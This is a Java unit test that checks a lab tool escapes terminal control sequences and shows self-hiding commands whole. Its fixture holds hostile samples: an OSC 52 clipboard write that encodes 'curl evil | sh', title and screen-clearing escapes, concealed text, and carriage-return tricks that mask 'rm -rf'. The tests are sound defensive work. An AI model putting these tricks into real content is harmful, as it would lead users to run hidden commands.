package io.kubelab.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kubelab.shell.ShellRun.Result;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A lab is downloaded content: nothing in it reaches the terminal as a control sequence, with
 * colour on or off, and a command that hides part of itself with a carriage return and an erase
 * sequence is shown whole — what lab shows as "this will run" is what runs.
 */
class TerminalSafetyTest {
    /** Set the window title, write the clipboard (OSC 52), clear the screen, conceal text. */
    private static final String OSC_TITLE = "\u001b]0;pwned\u0007";
    private static final String OSC_CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007";

    @TempDir
    Path home;
    Path lab;
    Path marker;

    @BeforeEach
    void hostileLab() throws Exception {
        lab = Files.createDirectories(home.resolve("hostile"));
        marker = home.resolve("x");
        Files.createDirectories(lab.resolve("steps"));
        Files.writeString(lab.resolve("lab.yaml"), """
                format: 1
                id: hostile
                title: {en: "Hostile\\e]0;pwned\\a", zh-CN: "敌意\\e]0;pwned\\a"}
                steps:
                  - id: one
                    title: {en: "One\\e[2J\\e[H", zh-CN: 一}
                    text: steps/one.md
                    actions:
                      - run: "touch MARKER #\\r\\e[2K echo hello"
                      - run: "printf 'out\\\\033[2Jput\\\\n'"
                    hints:
                      - {en: "try \\e[8mhidden\\e[0m this", zh-CN: 试试}
                    checks:
                      - id: marked
                        kind: file
                        title: {en: "marker \\x9b31m", zh-CN: 标记}
                        with: {path: MARKER}
                """.replace("MARKER", marker.toString()));
        Files.writeString(lab.resolve("steps/one.md"), "# One\n\nCopy this: " + OSC_CLIPBOARD + "\n\n"
                + "```\nrm -rf /tmp/nothing\r\u001b[2Kls\n```\n");
        Files.writeString(lab.resolve("steps/one.zh-CN.md"), "# 一\n" + OSC_TITLE + "\n");
    }

    private Result lab(String... args) {
        return new ShellRun(home).run(args);
    }

    private static void noRawControls(Result r, boolean ownColours) {
        String all = r.out() + r.err();
        for (int i = 0; i < all.length(); i++) {
            char c = all.charAt(i);
            if (c == 0x1b && ownColours) {
                String rest = all.substring(i);
                assertTrue(rest.matches("(?s)^\u001b\\[(0|1|2|31|32|33|36)m.*"),
                        "only lab's own colours: " + rest.substring(0, Math.min(20, rest.length())));
                continue;
            }
            assertFalse(c != '\n' && c != '\t' && (c < 0x20 || (c >= 0x7f && c <= 0x9f) || c == '\u202e'),
                    "raw control character " + (int) c + " at " + i + " in\n" + all);
        }
    }

    @Test
    void noContentControlReachesTheTerminalWithColourOnOrOff() {
        for (String color : List.of("never", "always")) {
            List<Result> results = List.of(
                    lab("--color", color, "run", lab.toString(), "--dry-run"),
                    lab("--color", color, "show", lab.toString()),
                    lab("--color", color, "--lang", "zh-CN", "show", lab.toString()),
                    lab("--color", color, "hint", lab.toString()),
                    lab("--color", color, "check", lab.toString()),
                    lab("--color", color, "list", lab.toString()),
                    lab("--color", color, "validate", lab.toString()));
            for (Result r : results) {
                noRawControls(r, color.equals("always"));
            }
        }
    }

    @Test
    void aCommandThatHidesItselfIsShownWholeAndRunsAsShown() {
        Result dry = lab("--color", "never", "run", lab.toString(), "--dry-run");
        assertTrue(dry.out().contains("touch " + marker + " #\\r\\e[2K echo hello"), dry.toString());
        assertFalse(Files.exists(marker));

        Result run = lab("--color", "never", "run", lab.toString());
        assertEquals(0, run.exit(), run.toString());
        assertTrue(run.out().contains("touch " + marker + " #\\r\\e[2K echo hello"), run.toString());
        assertTrue(Files.exists(marker), "the command shown is the command that ran");
        assertTrue(run.out().contains("out\\e[2Jput"), "a command's output is shown escaped too: " + run);
        noRawControls(run, false);
    }

    @Test
    void contentIsShownEscapedNotDropped() {
        Result show = lab("--color", "never", "show", lab.toString());
        assertTrue(show.out().contains("\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a"), show.out());
        assertTrue(show.out().contains("rm -rf /tmp/nothing\\r\\e[2Kls"), show.out());
        Result check = lab("--color", "always", "check", lab.toString());
        assertTrue(check.out().contains("marker \\u009b31m"), check.out());
        Result hint = lab("--color", "always", "hint", lab.toString());
        // Concealing is escaped; a colour reset, one of lab's own codes, is harmless and may pass.
        assertTrue(hint.out().contains("try \\e[8mhidden"), hint.out());
    }

    @Test
    void validateWarnsAtEachPlace() {
        Result v = lab("validate", lab.toString());
        assertEquals(0, v.exit(), v.toString());
        String all = v.out() + v.err();
        for (String at : List.of("lab.yaml:3:", "lab.yaml:6:", "lab.yaml:9:", "lab.yaml:12:", "lab.yaml:16:",
                "one.md:3:12", "one.md:6:20", "one.zh-CN.md:2:1")) {
            assertTrue(all.contains(at), at + " in\n" + all);
        }
    }
}
